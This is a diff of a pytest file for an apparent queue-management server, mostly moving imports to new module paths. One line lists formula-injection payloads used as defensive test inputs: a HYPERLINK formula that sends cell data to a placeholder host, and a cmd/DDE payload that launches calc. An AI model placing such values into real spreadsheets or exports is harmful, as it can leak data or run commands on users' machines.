@@ -10,9 +10,9 @@ import pytest
 import redis as redis_lib
 from openpyxl import load_workbook
 
-from server.archiver import Archiver
-from server.monitor import AlertWatcher
-from server.views import monitor_view
+from server.engine.views import monitor_view
+from server.history.archiver import Archiver
+from server.realtime.monitor import AlertWatcher
 
 from ..hall import ADMIN_PASSWORD, KIOSK_TOKEN
 from .test_reports import Day, config  # noqa: F401 - the same hall fixture
@@ -121,7 +121,7 @@ HOSTILE = ["=HYPERLINK(\"http://x.example/?\"&A1,\"Bấm\")", "+1+cmd|' /C calc'
 def test_exports_cannot_carry_formulas(small_day):
     """A name that starts with = + - @ (a field or an officer named by an admin, later by
     live administration) is written as text: a spreadsheet never runs it."""
-    from server.report_export import to_csv, to_xlsx
+    from server.history.report_export import to_csv, to_xlsx
 
     _, api, admin = small_day
     report = api.get("/reports?period=day&date=2026-11-23&group=field", admin).get_json()
@@ -162,9 +162,9 @@ def test_the_alert_watcher_rides_out_a_store_outage_with_one_line(config, caplog
     """Before: each check during a Redis outage logged a traceback (seen in a drill's log)."""
     import threading
 
-    from server.app import queue_store_client
-    from server.embedded_redis import free_port
-    from server.queue_engine import QueueEngine
+    from server.engine.queue_engine import QueueEngine
+    from server.store.embedded_redis import free_port
+    from server.web.app import queue_store_client
 
     dead = queue_store_client(f"redis://127.0.0.1:{free_port()}/0")  # nothing listens there
     engine = QueueEngine(dead, config)
@@ -178,6 +178,6 @@ def test_the_alert_watcher_rides_out_a_store_outage_with_one_line(config, caplog
     watcher.stop()
     checks.release()
     thread.join(timeout=10)
-    lines = [r for r in caplog.records if r.name == "server.monitor"]
+    lines = [r for r in caplog.records if r.name == "server.realtime.monitor"]
     assert len(lines) == 1 and lines[0].levelname == "WARNING" and "store is unavailable" in lines[0].getMessage()
     assert not any(r.exc_info for r in caplog.records)
